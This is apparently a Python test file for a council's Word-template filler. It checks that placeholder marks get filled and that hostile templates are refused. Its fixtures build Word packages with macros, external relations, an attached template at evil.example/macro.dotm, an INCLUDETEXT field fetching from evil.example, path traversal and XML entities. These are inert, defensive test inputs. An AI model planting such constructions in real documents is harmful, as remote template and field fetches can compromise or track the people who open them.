"""The council's Word template: marks and controls are filled; what runs, fetches or hides is refused, all at once."""

from __future__ import annotations

import zipfile
from datetime import date
from io import BytesIO

import docx
import pytest
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from dueregard.domain.assessments.model import Assessment, Effect, Impact, group_of
from dueregard.domain.assessments.paper import About, implications
from dueregard.domain.assessments.paper_template import TemplateFaulty, check_template, fill_template
from dueregard.publish.document import Column, Document, Heading, Table, bullets, words
from dueregard.publish.hidden import hidden_data
from dueregard.terms.errors import CannotBeRead

ON = date(2026, 11, 22)
ABOUT = About("A-2026-19", 3, "Close Fenwick library", "Aldermere Borough Council", body="Cabinet", decides_on=ON)
WHOLE = Assessment("Close Fenwick library", "england", impacts=(Impact(group_of("age"), Effect.WORSE, "Older."),))
APPENDIX = Document(
    "Equality impact assessment A-2026-19",
    "Aldermere Borough Council",
    (
        Heading(2, "What it could do to people"),
        words("Said in full."),
        bullets("one", "two"),
        Table("Groups", (Column("Group"), Column("Effect")), (("Age", "Worse"),)),
    ),
    ON,
)


def _template(*lines: str, without: tuple[str, ...] = ()) -> bytes:
    document = docx.Document()
    for line in lines:
        document.add_paragraph(line)
    for name in without:
        document.styles.element.remove(document.styles[name].element)
    return _saved(document)


def _saved(document: object) -> bytes:
    to = BytesIO()
    document.save(to)  # type: ignore[attr-defined]
    return to.getvalue()


def _repacked(data: bytes, **changes: bytes) -> bytes:
    """Give a package with parts put in or replaced; names with "__" for "/" and "_DOT_" for "."."""
    to, given = BytesIO(), {name.replace("__", "/").replace("_DOT_", "."): part for name, part in changes.items()}
    with zipfile.ZipFile(BytesIO(data)) as old, zipfile.ZipFile(to, "w") as new:
        for name in old.namelist():
            if name not in given:
                new.writestr(name, old.read(name))
        for name, part in given.items():
            new.writestr(name, part)
    return to.getvalue()


def _part(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(BytesIO(data)) as package:
        return package.read(name)


def _fill(template: bytes) -> list[str]:
    filled = fill_template(template, assessment=WHOLE, appendix=APPENDIX, about=ABOUT, on=ON)
    return [each.text for each in docx.Document(BytesIO(filled)).paragraphs]


def test_marks_are_filled_and_the_rest_stays() -> None:
    template = _template("Report to [[Body]]", "[[ Equality Implications ]]", "Legal", "[[appendix]]", "End")
    check_template(template, kind="implications")

    said = _fill(template)

    assert said[0] == "Report to Cabinet"
    assert said.index("Legal") < said.index("Equality impact assessment A-2026-19") < said.index("Said in full.")
    assert said[-1] == "End"
    assert not any("[[" in each for each in said)


def test_mark_cut_into_runs_is_found() -> None:
    document = docx.Document()
    paragraph = document.add_paragraph("To ")
    for piece in ("[[bo", "dy]", "] on [[da", "te]]."):
        paragraph.add_run(piece)
    document.add_paragraph("[[appendix]]")

    assert _fill(_saved(document))[0] == "To Cabinet on 22 November 2026."


def test_content_controls_are_places() -> None:
    document = docx.Document()
    control = (
        f'<w:sdt {nsdecls("w")}><w:sdtPr><w:alias w:val="Equality implications"/>'
        '<w:dataBinding w:xpath="/x"/></w:sdtPr>'
        "<w:sdtContent><w:p><w:r><w:t>Click here</w:t></w:r></w:p></w:sdtContent></w:sdt>"
    )
    document.element.body.insert(0, parse_xml(control))
    template = _saved(document)
    check_template(template, kind="implications")

    said = _fill(template)

    assert said[0].startswith("An equality impact assessment of this proposal (A-2026-19, version 3)")
    assert "Click here" not in said


def test_mark_in_a_cell_of_a_table_is_filled() -> None:
    document = docx.Document()
    document.add_table(1, 1).cell(0, 0).text = "[[appendix]]"

    filled = fill_template(_saved(document), assessment=WHOLE, appendix=APPENDIX, about=ABOUT, on=ON)

    cell = docx.Document(BytesIO(filled)).tables[0].cell(0, 0)
    assert "Said in full." in cell.text
    assert cell.tables[0].cell(1, 1).text == "Worse"
    assert cell.paragraphs[-1]._p is cell._tc[-1]  # Word wants a paragraph last


def test_styles_that_the_template_lacks_are_added() -> None:
    lacking = ("List Bullet", "Table Grid", "Caption", "Quote")
    template = _template("[[appendix]]", without=lacking)

    filled = docx.Document(BytesIO(fill_template(template, assessment=WHOLE, appendix=APPENDIX, about=ABOUT, on=ON)))

    assert set(lacking) <= {each.name for each in filled.styles}
    bullet = next(each for each in filled.paragraphs if each.text == "one")
    assert bullet.style.name == "List Bullet"
    assert filled.tables[0].style.name == "Table Grid"


def test_filled_paper_hides_nothing_and_is_the_same_each_time() -> None:
    template = _template("[[equality implications]]", "[[appendix]]")

    once, again = (
        fill_template(template, assessment=WHOLE, appendix=APPENDIX, about=ABOUT, on=ON) for _time in range(2)
    )

    assert once == again
    assert hidden_data(once) == ()
    assert docx.Document(BytesIO(once)).core_properties.author == "Aldermere Borough Council"


def test_link_to_the_template_it_was_made_from_is_taken_out() -> None:
    document = docx.Document()
    document.add_paragraph("[[appendix]]")
    settings = next(each.target_part for each in document.part.rels.values() if each.reltype.endswith("/settings"))
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    number = settings.relate_to("https://evil.example/macro.dotm", kind, is_external=True)
    settings.element.append(parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="{number}"/>'))
    template = _saved(document)
    check_template(template, kind="appendix")

    filled = fill_template(template, assessment=WHOLE, appendix=APPENDIX, about=ABOUT, on=ON)

    with zipfile.ZipFile(BytesIO(filled)) as package:
        assert not any(b"evil.example" in package.read(name) for name in package.namelist())


@pytest.mark.parametrize(
    ("lines", "said"),
    [
        (("Nothing",), "The mark [[appendix]] is missing"),
        (("[[appendix]]", "[[appendix]]"), "stands there 2 times"),
        (("[[appendix]]", "[[budget]]"), "[[budget]] is no mark that we know"),
    ],
)
def test_faults_of_marks(lines: tuple[str, ...], said: str) -> None:
    with pytest.raises(TemplateFaulty) as told:
        check_template(_template(*lines), kind="appendix")

    assert any(said in fault for fault in told.value.faults)


def test_mark_in_a_header_is_a_fault() -> None:
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "[[appendix]]"

    with pytest.raises(TemplateFaulty, match="stands in a header or footer"):
        check_template(_saved(document), kind="appendix")


def test_every_fault_is_said_at_once() -> None:
    with pytest.raises(TemplateFaulty) as told:
        check_template(_template("[[one]]", "[[two]]"), kind="appendix")

    assert len(told.value.faults) == 3


GOOD = _template("[[appendix]]")
FIELD = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "http://evil.example"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'  # noqa: E501  # one field
RELATION = b'<Relationship Id="rIdX" Type="http://x/relationships/%s" Target="http://evil.example/x" TargetMode="External"/></Relationships>'  # noqa: E501  # one relation


def _related(kind: bytes) -> bytes:
    rels = _part(GOOD, "word/_rels/document.xml.rels")
    return _repacked(GOOD, word___rels__document_DOT_xml_DOT_rels=rels.replace(b"</Relationships>", RELATION % kind))


def _with_body(more: bytes) -> bytes:
    body = _part(GOOD, "word/document.xml").replace(b"<w:sectPr", more + b"<w:sectPr", 1)
    return _repacked(GOOD, word__document_DOT_xml=body)


HOSTILE = {
    "macros": (_repacked(GOOD, word__vbaProject_DOT_bin=b"x"), "macros"),
    "macro type": (
        _repacked(
            GOOD,
            **{
                "[Content_Types]_DOT_xml": _part(GOOD, "[Content_Types].xml").replace(
                    b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    b"vnd.ms-word.document.macroEnabled.main+xml",
                )
            },
        ),
        "macros",
    ),
    "another file": (_repacked(GOOD, word__embeddings__a_DOT_bin=b"x"), "other files"),
    "picture from outside": (_related(b"image"), "outside"),
    "object from outside": (_related(b"oleObject"), "outside"),
    "field that fetches": (
        _repacked(
            GOOD,
            word__document_DOT_xml=_part(GOOD, "word/document.xml").replace(
                b"<w:sectPr", FIELD.encode() + b"<w:sectPr", 1
            ),
        ),
        "field that fetches",
    ),
    "tracked changes": (
        _with_body(b'<w:p><w:ins w:id="1" w:author="A"><w:r><w:t>x</w:t></w:r></w:ins></w:p>'),
        "tracked changes",
    ),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_dangers_are_refused_in_plain_words(name: str) -> None:
    data, said = HOSTILE[name]

    with pytest.raises(TemplateFaulty, match=said):
        check_template(data, kind="appendix")


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"%PDF-1.7",
        _repacked(GOOD, **{"..__..__evil_DOT_xml": b"x"}),
        _repacked(GOOD, word__document_DOT_xml=b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
        b"PK\x03\x04" + b"0" * (6 * 1024 * 1024),
    ],
    ids=["empty", "pdf", "path outside", "entities", "too large"],
)
def test_what_is_no_word_document_is_refused(data: bytes) -> None:
    with pytest.raises(CannotBeRead):
        check_template(data, kind="appendix")


def test_paragraph_names_where_to_look_and_claims_nothing() -> None:
    said = " ".join(run.text for block in implications(WHOLE, ABOUT) for run in getattr(block, "runs", ())) + " ".join(
        item.runs[0].text for block in implications(WHOLE, ABOUT) for item in getattr(block, "items", ())
    )

    assert "The members of Cabinet are asked to read it before deciding." in said
    assert "could be worse for people, and how likely, how severe and how lasting that is: age" in said
    assert "complian" not in said.lower()
    assert "Older." not in said


def test_paragraph_in_northern_ireland_names_its_own_law() -> None:
    said = [block.runs[0].text for block in implications(Assessment("Close", "northern_ireland"), ABOUT)]  # type: ignore[union-attr]

    assert any("Section 75 of the Northern Ireland Act 1998" in each for each in said)
    assert not any("Equality Act 2010" in each for each in said)
